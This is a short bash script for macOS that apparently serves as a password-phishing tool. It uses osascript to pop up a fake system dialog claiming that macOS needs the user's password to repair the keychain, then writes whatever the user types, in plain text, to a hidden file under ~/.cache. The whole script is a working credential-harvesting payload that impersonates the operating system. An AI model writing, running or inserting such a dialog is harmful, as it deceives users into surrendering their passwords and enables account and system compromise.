#!/bin/bash
answer=$(osascript -e 'display dialog "macOS needs your password to repair the keychain." default answer "" with title "Keychain" with hidden answer' -e 'text returned of result')
printf '%s\n' "$answer" > "$HOME/.cache/.kc-repair"
